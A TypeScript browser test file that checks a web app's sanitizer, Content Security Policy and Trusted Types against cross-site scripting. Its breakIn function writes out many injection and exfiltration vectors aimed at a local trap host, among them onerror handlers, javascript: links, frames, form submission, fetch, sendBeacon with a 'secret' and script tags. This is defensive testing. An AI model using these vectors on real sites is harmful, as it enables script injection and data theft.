import { existsSync, readFileSync, readdirSync } from "node:fs";
import { join } from "node:path";
import type { Page } from "playwright-core";
import { afterAll, beforeAll, expect, it } from "vitest";
import { hostilePieces } from "./hostile-pieces.ts";
import { hostileScripts, nameOf } from "./hostile-script.ts";
import { type BrowserHarness, inBrowser } from "./in-browser.ts";
import { Ledger, Trap, stateOf } from "./ledger.ts";

const corpus = join(process.env["ORQUESTRA_CORPORA"] ?? "", "xss");
const present = process.env["ORQUESTRA_CORPORA"] !== undefined && existsSync(corpus);

let trap: Trap;
beforeAll(async () => {
  trap = await Trap.open();
});
afterAll(() => trap.close());

inBrowser("text that wants to be more", (harness) => {
  it("loads nothing, runs nothing and leaves nothing for the policy to stop, wherever it is shown", { timeout: 240_000 }, () =>
    expectQuiet(harness, hostilePieces(trap.origin)),
  );

  it.skipIf(!present)(
    "likewise every string of the corpus (ORQUESTRA_CORPORA; skipped where it is not set)",
    { timeout: 240_000 },
    () => expectQuiet(harness, corpusPieces()),
  );
});

inBrowser("the policy alone", (harness) => {
  it("stops what a broken sanitizer would let through, and says so", async () => {
    const ledger = new Ledger();
    const scripts = hostileScripts(["harmless"]);
    const server = await harness.serve(scripts);
    const { page } = await harness.visit(server, "hostile-0", {}, (context) => ledger.keep(context));
    trap.hits.length = 0;
    await page.evaluate(breakIn, trap.origin);
    const directives = ["img-src", "style-src-elem", "script-src-elem", "frame-src", "object-src", "media-src"];
    for (const directive of [...directives, "connect-src", "font-src", "form-action", "base-uri", "default-src"]) {
      await expect.poll(async () => (await stateOf(page)).violations.join("\n"), { message: directive }).toContain(directive);
    }
    expect(trap.hits).toEqual([]);
    expect((await stateOf(page)).pwned).toBe(false);
  });

  it("lets no text become markup or script in the page's own code", async () => {
    const server = await harness.serve(hostileScripts(["harmless"]));
    const { page } = await harness.visit(server, "hostile-0");
    const outcomes = await page.evaluate(() => {
      const attempt = (work: () => unknown): string => {
        try {
          work();
          return "done";
        } catch (error) {
          return error instanceof Error ? error.name : "thrown";
        }
      };
      return [
        attempt(() => (document.createElement("div").innerHTML = "<b>a</b>")),
        attempt(() => document.createElement("div").insertAdjacentHTML("beforeend", "<b>a</b>")),
        attempt(() => (document.createElement("script").src = "/a.js")),
        attempt(() => (document.createElement("iframe").srcdoc = "a")),
        attempt(() => new DOMParser().parseFromString("<b>a</b>", "text/html")),
      ];
    });
    expect(outcomes).toEqual(Array.from({ length: 5 }, () => "TypeError"));
  });
});

async function expectQuiet(harness: BrowserHarness, pieces: readonly string[]): Promise<void> {
  const scripts = hostileScripts(pieces);
  const shown = new Set<string>();
  for (const { sessionId } of scripts) {
    trap.hits.length = 0;
    const ledger = new Ledger();
    const server = await harness.serve(scripts);
    const { page } = await harness.visit(server, sessionId, {}, (context) => ledger.keep(context));
    await lookAtAll(page, shown);
    expect(ledger.length, sessionId).toBeGreaterThan(3);
    expect(ledger.foreign(server.url), sessionId).toEqual([]);
    expect(trap.hits, sessionId).toEqual([]);
    expect(await stateOf(page), sessionId).toEqual({ pwned: false, violations: [] });
    expect(page.url(), sessionId).toBe(`${server.url}/#/s/${sessionId}`);
    expect(page.context().pages(), sessionId).toHaveLength(1);
    await harness.clear();
  }
  const missing = pieces.map((_, index) => nameOf(index)).filter((name) => !shown.has(name));
  expect(missing).toEqual([]);
}

/** Goes through the whole thread, opens what opens, points at every link, and searches the history. */
async function lookAtAll(page: Page, shown: Set<string>): Promise<void> {
  const log = page.getByRole("log");
  // The thread comes after the page.
  await log
    .getByText(/piece-\d+\./)
    .first()
    .waitFor();
  await log.evaluate((element) => element.scrollTo(0, 0));
  for (let step = 0; step < 60; step += 1) {
    await page.evaluate(() => {
      for (const details of document.querySelectorAll("details:not([open])")) details.setAttribute("open", "");
      for (const button of document.querySelectorAll<HTMLElement>(
        ".oq-log button[aria-expanded=false], [role=log] button[aria-expanded=false]",
      ))
        button.click();
      for (const link of document.querySelectorAll("a[href]")) {
        link.dispatchEvent(new MouseEvent("mouseover", { bubbles: true }));
        link.dispatchEvent(new PointerEvent("pointerenter"));
      }
    });
    for (const [name] of (await log.innerText()).matchAll(/piece-\d+\./g)) shown.add(name);
    const atEnd = await log.evaluate((element) => {
      const before = element.scrollTop;
      element.scrollBy(0, element.clientHeight * 0.8);
      return element.scrollTop === before;
    });
    if (atEnd) break;
    await page.evaluate(() => new Promise((resolve) => requestAnimationFrame(() => requestAnimationFrame(resolve))));
  }
  await page.keyboard.press("Control+k");
  await page.keyboard.type("piece");
  await page
    .getByText(/piece-\d+\./)
    .first()
    .waitFor();
}

/** What would be there if text had become markup. Plain DOM calls, as no sink for text is left. */
function breakIn(theirs: string): void {
  const add = (tag: string, attributes: { readonly [name: string]: string }): HTMLElement => {
    const element = document.createElement(tag);
    for (const [name, value] of Object.entries(attributes)) {
      try {
        element.setAttribute(name, value);
      } catch {
        // Trusted Types are there first.
      }
    }
    document.body.append(element);
    return element;
  };
  add("img", { src: `${theirs}/img.png`, onerror: "window.pwned=true" });
  add("img", { srcset: `${theirs}/set.png 2x` });
  add("link", { rel: "stylesheet", href: `${theirs}/a.css` });
  add("link", { rel: "preload", as: "image", href: `${theirs}/preload.png` });
  add("link", { rel: "prefetch", href: `${theirs}/prefetch` });
  add("style", {}).append("body { color: red }");
  add("iframe", { src: `${theirs}/frame` });
  add("object", { data: `${theirs}/object.swf`, type: "application/x-shockwave-flash" });
  add("embed", { src: `${theirs}/embed.pdf`, type: "application/pdf" });
  add("video", { src: `${theirs}/a.mp4`, poster: `${theirs}/poster.png`, autoplay: "" });
  add("audio", { src: `${theirs}/a.mp3`, autoplay: "" });
  add("div", { onclick: "window.pwned=true" }).click();
  add("base", { href: `${theirs}/` });
  add("a", { href: "javascript:window.pwned=true" }).click();
  const form = document.createElement("form");
  form.action = `${theirs}/form`;
  document.body.append(form);
  form.submit();
  const sheet = new CSSStyleSheet();
  document.adoptedStyleSheets.push(sheet);
  sheet.insertRule(`body { background: url(${theirs}/sheet.png) }`);
  new FontFace("a", `url(${theirs}/font.woff2)`).load().catch(() => undefined);
  fetch(`${theirs}/fetch`).catch(() => undefined);
  navigator.sendBeacon(`${theirs}/beacon`, "secret");
  new EventSource(`${theirs}/events`).close();
  for (const start of [
    () => new WebSocket(theirs.replace("http", "ws")),
    () => add("script", { src: `${theirs}/script.js` }),
    () => document.createElement("script").append("window.pwned=true"),
  ]) {
    try {
      start();
    } catch {
      // Refused at once.
    }
  }
  const inline = document.createElement("script");
  inline.append("window.pwned=true");
  document.body.append(inline);
}

function corpusPieces(): readonly string[] {
  return readdirSync(corpus)
    .flatMap((name) => readFileSync(join(corpus, name), "utf8").split(/\r?\n/))
    .filter((line) => line !== "");
}
